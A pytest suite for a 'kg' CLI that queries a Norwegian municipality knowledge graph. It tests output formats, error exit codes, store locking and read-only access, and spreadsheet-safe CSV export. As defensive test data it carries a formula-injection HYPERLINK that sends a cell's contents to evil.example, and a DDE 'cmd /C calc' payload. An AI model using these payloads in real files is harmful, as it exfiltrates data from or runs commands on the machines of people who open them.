"""The kg command end to end on an on-disk store: the issue's acceptance checks, output formats,
and one-line errors with documented exit codes."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest


def bindings(out: str) -> list[dict]:
    return json.loads(out)["results"]["bindings"]


@pytest.mark.parametrize("day, count", [("2024-06-01", 357), ("2021-06-01", 356), ("2019-06-01", 422)])
def test_municipalities_on_a_date(run_kg, day, count):
    code, out, err = run_kg("query", "municipalities", "--param", f"date={day}", "--format", "json")
    assert code == 0, err
    assert len(bindings(out)) == count


def test_counties_and_numbers(run_kg):
    code, out, _ = run_kg("query", "counties", "--param", "date=2024-06-01", "--format", "json")
    assert len(bindings(out)) == 15
    code, out, _ = run_kg("query", "municipality-by-number", "--param", "number=0602", "--param",
                          "date=2019-06-01", "--format", "json")
    (row,) = bindings(out)
    assert row["name"] == {"type": "literal", "value": "Drammen", "xml:lang": "no"}
    assert row["currentNumber"]["value"] == "3301"
    assert row["until"] == {"type": "literal", "value": "2019-12-31",
                            "datatype": "http://www.w3.org/2001/XMLSchema#date"}


def test_formats(run_kg):
    args = ("query", "municipality-by-number", "-p", "number=3005", "-p", "date=2021-06-01")
    _, out, _ = run_kg(*args, "-f", "csv")
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["currentNumber"] == "3301" and row["countyName"] == "Viken"
    _, out, _ = run_kg(*args, "-f", "tsv")
    assert out.splitlines()[0].startswith("?name\t?from") and '"Drammen"@no' in out
    _, out, _ = run_kg(*args, "-f", "table")
    assert "kgr:municipality/3005-2020" in out and "(1 row)" in out
    _, out, _ = run_kg(*args)  # not a terminal: csv
    assert out.startswith("name,from,until")


def test_construct_and_ask_from_stdin(run_kg):
    construct = ("PREFIX schema: <https://schema.org/>\n"
                 "CONSTRUCT { ?id schema:value ?n } WHERE { ?id schema:value ?n FILTER (?n = \"0602\") }")
    code, out, _ = run_kg("query", stdin=construct)
    assert code == 0 and '"0602"' in out and "@prefix" in out
    code, out, _ = run_kg("query", "-", "--format", "ntriples", stdin=construct)
    assert out.strip().endswith('"0602" .')
    code, out, _ = run_kg("query", "--format", "jsonld", stdin=construct)
    assert json.loads(out)
    code, out, _ = run_kg("query", stdin='ASK { ?s <https://schema.org/value> "3301" }')
    assert (code, out) == (0, "true\n")
    code, _, err = run_kg("query", "--format", "csv", stdin=construct)
    assert code == 2 and "does not fit a graph result" in err


def test_query_file(run_kg, tmp_path):
    path = tmp_path / "mine.rq"
    path.write_text("# title: Mine\n# param: n (string) A number.\n"
                    "SELECT ?name WHERE { ?id <https://schema.org/value> ?n ; <https://schema.org/name> ?name }",
                    encoding="utf-8")
    code, out, _ = run_kg("query", str(path), "-p", "n=0301")
    assert code == 0 and out.splitlines() == ["name", "Oslo"]


@pytest.mark.parametrize("args, stdin, message", [
    (("query", "municipalitys"), None, "unknown query 'municipalitys'; known queries: conflicts, counties"),
    (("query", "municipality-by-number"), None, "needs --param number=VALUE"),
    (("query", "counties", "-p", "when=2020-01-01"), None, "has no parameter 'when'"),
    (("query", "counties", "-p", "date"), None, "must read NAME=VALUE"),
    (("query", "counties", "-f", "yaml"), None, "Invalid value for '--format'"),
    (("query",), "SELECT ?x WHERE {\n ?x ?y }", "invalid SPARQL: error at 2:"),
    (("query",), "DROP ALL", "is a SPARQL update; pass --allow-update"),
    (("query", "nowhere.rq"), None, "nowhere.rq: no such query file"),
    (("frobnicate",), None, "No such command 'frobnicate'"),
])
def test_errors_are_one_line_with_exit_code_2(run_kg, args, stdin, message):
    code, out, err = run_kg(*args, stdin=stdin)
    assert code == 2
    assert out == ""
    assert err.startswith("kg: error: ") and message in err
    assert err.count("\n") == 1 and "Traceback" not in err


def test_build_reports_and_is_repeatable(run_kg):
    code, out, _ = run_kg("build")
    assert code == 0 and "reference graph built" in out
    first = json.loads(run_kg("stats", "--format", "json")[1])
    code, out, _ = run_kg("build", "--if-changed")
    assert "already current" in out
    second = json.loads(run_kg("stats", "--format", "json")[1])
    assert first == second
    assert first["classes"]["https://w3id.org/kommunegraf/ontology#Municipality"] == 467


def test_stats_and_queries_listing(run_kg):
    code, out, _ = run_kg("stats")
    assert code == 0 and "kgr:graph/reference" in out and "kgo:Municipality" in out
    code, out, _ = run_kg("queries", "--format", "json")
    names = {q["name"] for q in json.loads(out)}
    assert {"municipalities", "municipality-by-number", "fact-sources"} <= names
    code, out, _ = run_kg("queries")
    assert "--param number (string, required)" in out


def assert_busy(code: int, err: str, path) -> None:
    assert code == 3
    assert err.startswith(f"kg: error: store {path} is busy") and err.count("\n") == 1, err


def test_store_option_and_busy_store(run_kg, tmp_path):
    from kg.store import open_store

    path = tmp_path / "elsewhere"
    assert run_kg("build", "--store", str(path))[0] == 0
    with open_store(path):  # another process would hold the write lock like this
        code, out, err = run_kg("query", "counties", "-p", "date=2024-06-01", "--store", str(path))
        assert code == 0, err
        assert len(out.splitlines()) == 16  # header + 15, from a read-only snapshot
        code, _, err = run_kg("build", "--store", str(path))
        assert_busy(code, err, path)


HOLD_STORE = """
import sys
from kg.store import open_store
with open_store(sys.argv[1], bootstrap=False):
    print("holding", flush=True)
    sys.stdin.read()  # until the test closes our stdin
"""


def test_busy_store_held_by_another_process(run_kg, tmp_path):
    """The same with a real second process, whose lock error RocksDB words differently
    ("While lock file: …" rather than "lock hold by current process")."""
    path = tmp_path / "shared"
    assert run_kg("build", "--store", str(path))[0] == 0
    holder = subprocess.Popen([sys.executable, "-c", HOLD_STORE, str(path)],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline() == "holding\n"
        code, out, err = run_kg("query", "counties", "-p", "date=2024-06-01", "--store", str(path))
        assert code == 0, err
        assert len(out.splitlines()) == 16
        code, out, err = run_kg("stats", "--format", "json", "--store", str(path))
        assert code == 0 and json.loads(out)["triples"] > 0, err
        code, _, err = run_kg("build", "--store", str(path))
        assert_busy(code, err, path)
    finally:
        holder.stdin.close()
        holder.wait(timeout=60)
    assert holder.returncode == 0


def vanished_table_file(path: str) -> RuntimeError:
    """What pyoxigraph raises when a read-only open reads the MANIFEST just before the writer's
    compaction deletes a table file it lists (seen in this test's flaky runs)."""
    return RuntimeError(f"Corruption: Corruption: IO error: No such file or directory: While open a "
                        f"file for random read: {path}/000013.sst: No such file or directory  The "
                        f"file {path}/MANIFEST-000023 may be corrupted.")


@pytest.mark.parametrize("failures, code", [(3, 0), (1000, 3)])
def test_snapshot_open_racing_a_compaction(run_kg, tmp_path, monkeypatch, failures, code):
    """A read-only open that loses the race with the writer is retried; if it keeps failing, the
    reader gets a one-line error (exit 3), not a traceback."""
    import pyoxigraph as ox

    import kg.store
    from kg.store import open_store

    attempts = []

    class RacingStore:
        def __new__(cls, *args):
            return ox.Store(*args)

        @staticmethod
        def read_only(location):
            attempts.append(location)
            if len(attempts) <= failures:
                raise vanished_table_file(location)
            return ox.Store.read_only(location)

    path = tmp_path / "racing"
    assert run_kg("build", "--store", str(path))[0] == 0
    if code != 0:  # every attempt fails here: no need to wait between them
        monkeypatch.setattr(kg.store, "READ_ONLY_FIRST_PAUSE", 0.0)
    monkeypatch.setattr(kg.store, "ox", SimpleNamespace(**{**vars(ox), "Store": RacingStore}))
    with open_store(path):
        result, out, err = run_kg("query", "counties", "-p", "date=2024-06-01", "--store", str(path))
    assert result == code, err
    if code == 0:  # more attempts than simulated failures if the real open raced the writer too
        assert len(out.splitlines()) == 16 and len(attempts) > failures
    else:
        assert len(attempts) == kg.store.READ_ONLY_ATTEMPTS
        assert err.startswith(f"kg: error: store {path}: cannot open read-only (Corruption: ")
        assert err.count("\n") == 1 and "Traceback" not in err


def test_open_error_mentioning_lock_is_not_busy(run_kg, tmp_path):
    """Only RocksDB's lock messages mean busy; not a path or a message that contains "lock"."""
    (tmp_path / "locked").write_text("a file, not a folder")
    code, _, err = run_kg("build", "--store", str(tmp_path / "locked" / "store"))
    assert code == 3 and "is busy" not in err and "cannot open" in err, err


# Spreadsheet-safe CSV and TSV -------------------------------------------------------------------

#: An article title that LibreOffice turned into a live link carrying another cell to another site.
HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&B2;"Les mer")'


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory) -> Path:
    """The sample article's text ingested under a title that is a spreadsheet formula."""
    from kg.assets import asset_path

    folder = tmp_path_factory.mktemp("hostile")
    text = asset_path("data", "articles", "drammen-2020-ks-storbynettverk.txt").read_text(encoding="utf-8")
    record = {"id": "hostile", "title": HOSTILE_TITLE, "date": "2020-11-19", "language": "nb", "text": text}
    (folder / "hostile.jsonl").write_text(json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8")
    result = subprocess.run([sys.executable, "-m", "kg.cli", "ingest", str(folder / "hostile.jsonl"),
                             "--store", str(folder / "store")], capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    return folder / "store"


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("args", [("query", "fact-sources", "-p", "entity=Drammen"),
                                  ("analyse", "path", "Drammen", "Tromsø", "--as-of", "2021-06-01")])
def test_csv_for_people_neutralises_formulas_and_raw_csv_is_exact(kg_process, hostile_store, args):
    safe = kg_process(*args, "-f", "csv", "--store", hostile_store)
    assert safe.returncode == 0, safe.stderr
    found = cells(safe.stdout)
    assert not [cell for cell in found if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(cell.startswith("'" + HOSTILE_TITLE) for cell in found), safe.stdout[:500]
    raw = kg_process(*args, "-f", "csv-raw", "--store", hostile_store)
    assert raw.returncode == 0, raw.stderr
    assert any(cell.startswith(HOSTILE_TITLE) for cell in cells(raw.stdout))
    assert raw.stdout.replace("'=", "=") == safe.stdout.replace("'=", "=")


def test_query_csv_to_a_file_and_tsv_are_safe_and_negative_numbers_too(kg_process, hostile_store, tmp_path):
    select = ('SELECT ?text ?n ?x WHERE { VALUES (?text ?n ?x) { ("@SUM(1+1)*cmd|\' /C calc\'!A0" -3 -0.5) '
              '("+1" 7 "\\tx") } }')
    out = tmp_path / "out.csv"
    with out.open("w") as handle:  # not a terminal: csv by default
        result = kg_process("query", "--store", hostile_store, stdin=select, stdout=handle)
    assert result.returncode == 0, result.stderr
    assert cells(out.read_text()) == ["text", "n", "x", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-3", "'-0.5",
                                      "'+1", "7", "'\tx"]
    raw = kg_process("query", "-f", "csv-raw", "--store", hostile_store, stdin=select)
    assert cells(raw.stdout)[3:6] == ["@SUM(1+1)*cmd|' /C calc'!A0", "-3", "-0.5"]

    tsv = kg_process("query", "-f", "tsv", "--store", hostile_store, stdin=select).stdout.splitlines()
    assert tsv[0] == "?text\t?n\t?x"
    assert tsv[1].split("\t") == ['"\'@SUM(1+1)*cmd|\' /C calc\'!A0"',
                                  "\"'-3\"^^<http://www.w3.org/2001/XMLSchema#integer>",
                                  "\"'-0.5\"^^<http://www.w3.org/2001/XMLSchema#decimal>"]
    raw_tsv = kg_process("query", "-f", "tsv-raw", "--store", hostile_store, stdin=select).stdout.splitlines()
    assert raw_tsv[1].split("\t")[:2] == ['"@SUM(1+1)*cmd|\' /C calc\'!A0"',
                                          '"-3"^^<http://www.w3.org/2001/XMLSchema#integer>']
    assert raw_tsv[2].split("\t")[2] == '"\\tx"'



# Readers need no write access -------------------------------------------------------------------

def readers(out: Path) -> list[tuple[str, ...]]:
    return [("query", "counties", "-p", "date=2024-06-01", "-f", "json"), ("stats", "-f", "json"),
            ("validate",), ("analyse", "centrality", "--graph", "comembership", "-f", "json"),
            ("export", "-f", "json", "-o", str(out))]


def assert_readers_read(kg_process, store: Path, out: Path, prefix: tuple[str, ...] = ()) -> None:
    for args in readers(out):
        result = kg_process(*args, "--store", store, prefix=prefix)
        assert result.returncode == 0, (args, result.stderr)
        assert result.stderr == "", (args, result.stderr)
    assert json.loads(out.read_text())["nodes"]


def test_readers_read_a_store_on_a_read_only_mount(kg_process, built_store_path, mounts, tmp_path):
    view = mounts.read_only(built_store_path.parent)
    assert_readers_read(kg_process, view / built_store_path.name, tmp_path / "graph.json")


def test_readers_read_a_store_on_a_full_disk(kg_process, built_store_path, mounts, tmp_path):
    import shutil

    from conftest import fill

    disk = mounts.tmpfs("96m")
    shutil.copytree(built_store_path, disk / "store")
    fill(disk)
    assert_readers_read(kg_process, disk / "store", tmp_path / "graph.json")


def test_readers_read_a_store_in_a_folder_they_cannot_write(kg_process, built_store_path, tmp_path):
    import shutil

    from conftest import WITHOUT_ROOT_POWERS

    if not shutil.which(WITHOUT_ROOT_POWERS[0]):
        pytest.skip("needs setpriv(1) to run kg without root's power to write anywhere")
    store = tmp_path / "store"
    shutil.copytree(built_store_path, store)
    out = tmp_path / "written"
    out.mkdir()
    store.chmod(0o555)
    try:
        probe = subprocess.run([*WITHOUT_ROOT_POWERS, sys.executable, "-c",
                                f"open({str(store / 'probe')!r}, 'w')"], capture_output=True, text=True)
        if probe.returncode == 0:
            pytest.skip("setpriv did not take away root's power to write into a folder of mode 555")
        assert_readers_read(kg_process, store, out / "graph.json", prefix=WITHOUT_ROOT_POWERS)
    finally:
        store.chmod(0o755)


def test_a_reader_still_says_when_the_store_is_missing_or_corrupt(kg_process, mounts, tmp_path):
    (tmp_path / "empty").mkdir()
    view = mounts.read_only(tmp_path / "empty")
    result = kg_process("stats", "--store", view / "nowhere")
    assert result.returncode == 3 and result.stderr.count("\n") == 1, result.stderr
    assert result.stderr.startswith(f"kg: error: store {view / 'nowhere'}: cannot open: it does not exist and "
                                    "cannot be created (Read-only file system)"), result.stderr

    corrupt = tmp_path / "corrupt"
    corrupt.mkdir()
    (corrupt / "CURRENT").write_text("MANIFEST-000099\n")
    (corrupt / "IDENTITY").write_text("x")
    for store in (corrupt, mounts.read_only(corrupt)):
        result = kg_process("stats", "--store", store)
        assert result.returncode == 3 and result.stderr.count("\n") == 1, result.stderr
        assert result.stderr.startswith(f"kg: error: store {store}: cannot open"), result.stderr
        assert "Traceback" not in result.stderr


def test_prefer_read_only_takes_no_write_lock_on_a_current_store(tmp_path):
    """What a read-only ``kg serve`` asks for: a current store read without its write lock, so a
    writer is not refused meanwhile; a fresh or outdated store is opened for writing and brought
    up to date first."""
    from kg.store import open_store, open_store_for_reading

    path = tmp_path / "store"
    with open_store_for_reading(path, prefer_read_only=True) as store:  # does not exist yet
        assert not store.read_only
    with open_store_for_reading(path, prefer_read_only=True) as store:
        assert store.read_only and store.has_graph("https://w3id.org/kommunegraf/id/graph/reference")
        with open_store(path, bootstrap=False):  # a writer is not refused as busy
            pass
    with open_store_for_reading(path) as store:  # without it: as before, for writing when possible
        assert not store.read_only
